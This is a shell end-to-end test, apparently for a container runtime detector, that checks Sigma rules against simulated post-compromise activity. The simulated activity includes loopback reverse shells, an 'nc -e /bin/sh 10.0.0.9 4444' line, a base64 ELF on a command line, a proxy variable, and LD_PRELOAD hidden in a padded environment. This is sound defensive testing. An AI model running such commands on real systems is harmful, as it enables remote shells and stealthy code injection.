@@ -1,0 +1,153 @@
+#!/bin/sh
+# SPDX-License-Identifier: GPL-2.0
+# t-70-exec-rules.sh - what a process in a container does after the foothold, judged by the Sigma
+# rules whorl ships (rules/) and SigmaHQ's Linux process_creation rules, on every exec: a reverse
+# shell (the shell's stdin and stdout a TCP socket, IPv4 and IPv6), netcat -e, an ELF in base64 on
+# a command line, a shell started by a program that is not one, a proxy in the environment. Each is
+# a finding with the rule's category and the process's lineage; a benign workload is silent.
+. /e2e/lib.sh
+RULES=$E2E_DATA/rules
+EXEC_LOG=$E2E_TMP/exec.jsonl
+set -- --rules "$RULES/whorl"
+[ -d "$RULES/sigmahq" ] && set -- "$@" --rules "$RULES/sigmahq"
+setup "$@" --exec-log "$EXEC_LOG"
+diag "rules: $(grep -i 'rules' "$E2E_TMP/relay.err" | head -n 3 | tr '\n' ' ')"
+
+REVERSE="Reverse Shell"
+NETCAT="Execution: Netcat Remote Code Execution in Container"
+B64ELF="Defense Evasion: Base64 ELF File Command Line Execution"
+CHILD="Unexpected Child Shell"
+PROXY="Execution: Program Run with Disallowed HTTP Proxy Env"
+ELF_B64=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA
+
+# exec_event KEY VALUE...: an exec event in the relay's log with every KEY equal to its VALUE
+exec_event() {
+	awk -f "$E2E_DIR/json.awk" "$EXEC_LOG" 2>/dev/null | awk -F '\t' -v conds="$*" '
+		BEGIN { n = split(conds, c, " ") }
+		{ v[$1, $2] = $3; seen[$1] = 1 }
+		END {
+			for (r in seen) {
+				good = 1
+				for (i = 1; i + 1 <= n; i += 2) {
+					w = c[i + 1]; gsub(/\037/, " ", w)
+					if (!((r, c[i]) in v) || v[r, c[i]] != w) { good = 0; break }
+				}
+				if (good) { print r; exit 0 }
+			}
+			exit 1
+		}' >/dev/null
+}
+
+# check_event NAME KEY VALUE...: the exec log has that event (waited for as findings are)
+check_event() {
+	local name=$1
+	shift
+	if wait_progress exec_event "$@"; then
+		ok "$name"
+	else
+		not_ok "$name" "no exec event with $*; log: $(tail -n 3 "$EXEC_LOG" 2>/dev/null | cut -c1-600 | tr '\n' ' ')"
+	fi
+}
+
+scenarios() {
+	start "$3" "$1" "$2" || return
+	ctr_copy_in "$C_ID" "$E2E_DATA/revshell" /tmp/.rs
+
+	# a reverse shell over IPv4: the listener inside the container, the shell calling it
+	ctr "$C_ID" /tmp/.rs serve 127.0.0.1 4444 '/usr/bin/id
+' >"$E2E_TMP/serve.out" 2>&1 &
+	serve=$!
+	wait_progress grep -q listening "$E2E_TMP/serve.out"
+	from=$(mark)
+	ctr "$C_ID" /tmp/.rs connect 127.0.0.1 4444
+	expect_finding "$3: reverse_shell_ipv4" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$REVERSE"
+		container_fields)" \
+		"category=$(q "$REVERSE")" "containers.0.id=$C_ID"
+	check_event "$3: the shell's stdin is the socket, its peer 127.0.0.1:4444" \
+		Image /usr/bin/dash whorl.StdinType socket whorl.StdinRemoteAddress 127.0.0.1 \
+		whorl.StdinRemotePort 4444 whorl.StdoutType socket whorl.ContainerId "$C_ID"
+	check_event "$3: what the attacker ran through it has the shell for parent" \
+		Image /usr/bin/id ParentImage /usr/bin/dash whorl.StdoutType socket \
+		whorl.ContainerId "$C_ID"
+	wait "$serve"	# (not a bare wait: the relays are this shell's jobs too)
+
+	# the same over IPv6
+	ctr "$C_ID" /tmp/.rs serve ::1 4445 'exit
+' >"$E2E_TMP/serve6.out" 2>&1 &
+	serve=$!
+	wait_progress grep -q listening "$E2E_TMP/serve6.out"
+	from=$(mark)
+	ctr "$C_ID" /tmp/.rs connect ::1 4445
+	expect_finding "$3: reverse_shell_ipv6" "$from" \
+		"$(printf 'category\t%s\n' "$REVERSE"; container_fields)" \
+		"category=$(q "$REVERSE")" "containers.0.id=$C_ID"
+	check_event "$3: an IPv6 peer" Image /usr/bin/dash whorl.StdinRemoteAddress ::1 \
+		whorl.StdinRemotePort 4445 whorl.ContainerId "$C_ID"
+	wait "$serve"
+
+	# netcat -e: any program named nc with the option (here a harmless one, copied in)
+	ctr_copy_in "$C_ID" "$E2E_DATA/hello" /tmp/nc
+	from=$(mark)
+	ctr "$C_ID" /tmp/nc -e /bin/sh 10.0.0.9 4444 >/dev/null
+	expect_finding "$3: netcat_exec" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/tmp/nc\n' "$NETCAT"
+		args_fields /tmp/nc -e /bin/sh 10.0.0.9 4444
+		container_fields)" \
+		"category=$(q "$NETCAT")" "containers.0.id=$C_ID"
+
+	# an ELF header in base64 on a command line
+	from=$(mark)
+	ctr "$C_ID" /bin/sh -c "echo $ELF_B64 >/dev/null"
+	expect_finding "$3: base64_elf_on_the_command_line" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$B64ELF"
+		container_fields)" \
+		"category=$(q "$B64ELF")" "containers.0.id=$C_ID"
+
+	# a shell started by a program that is not one (an application shelling out), with lineage
+	from=$(mark)
+	ctr "$C_ID" /tmp/.rs run '/usr/bin/id' >/dev/null
+	expect_finding "$3: unexpected_child_shell" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$CHILD"
+		printf 'processes.1.binary.path\t/tmp/.rs\nprocesses.1.args.1\trun\n'
+		container_fields)" \
+		"category=$(q "$CHILD")" "containers.0.id=$C_ID"
+	check_event "$3: the shell's working directory and user" Image /usr/bin/dash \
+		ParentImage /tmp/.rs CurrentDirectory / User root whorl.ContainerId "$C_ID"
+
+	# a proxy in the environment, and the working directory the program started in
+	from=$(mark)
+	ctr "$C_ID" /bin/sh -c 'cd /tmp && HTTPS_PROXY=http://10.0.0.9:3128 exec /usr/bin/id' >/dev/null
+	expect_finding "$3: proxy_in_the_environment" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/id\n' "$PROXY"
+		container_fields)" \
+		"category=$(q "$PROXY")" "containers.0.id=$C_ID"
+	check_event "$3: the environment and working directory in the exec event" Image /usr/bin/id \
+		CurrentDirectory /tmp whorl.Env.HTTPS_PROXY http://10.0.0.9:3128 whorl.ContainerId "$C_ID"
+
+	# an environment padded past what the module reads cannot hide a variable in silence
+	pad=$(head -c 70000 /dev/zero | tr '\0' x)
+	ctr "$C_ID" /usr/bin/env PAD="$pad" LD_PRELOAD=/tmp/hidden.so /usr/bin/true
+	check_event "$3: a padded environment is marked incomplete" Image /usr/bin/true \
+		whorl.EnvIncomplete true whorl.ContainerId "$C_ID"
+
+	# silence: a benign workload (a shell script that lists, reads, loops and sleeps) with every
+	# rule loaded gives no rule's finding
+	barrier "$C_ID"
+	from=$(mark)
+	ctr "$C_ID" /bin/sh -c 'for i in 1 2 3; do ls / >/dev/null; cat /etc/os-release >/dev/null
+		id >/dev/null; uname -a >/dev/null; head -n 1 /etc/passwd >/dev/null; sleep 0.1; done
+		cd /tmp && mkdir -p work && cp /etc/passwd work/ && sha256sum work/passwd >/dev/null
+		rm -rf work' >/dev/null
+	barrier "$C_ID"
+	# (the barrier's own shell copies its sentinel into /tmp: SigmaHQ's rule for scripts in
+	# suspicious directories rightly names it; it is the test's plumbing, not the workload)
+	bdir=/tmp/.barrier-$BARRIERS
+	expect_silence "$3: benign_workload_is_silent" "$from" "containers.0.id=$C_ID" \
+		"$NOT_SENTINEL" \
+		"processes.0.args.2!=$(q "mkdir -p $bdir && cp /usr/local/bin/e2e-sentinel $bdir/")"
+	container_remove "$C_ID"
+}
+
+for_each_run scenarios
+finish
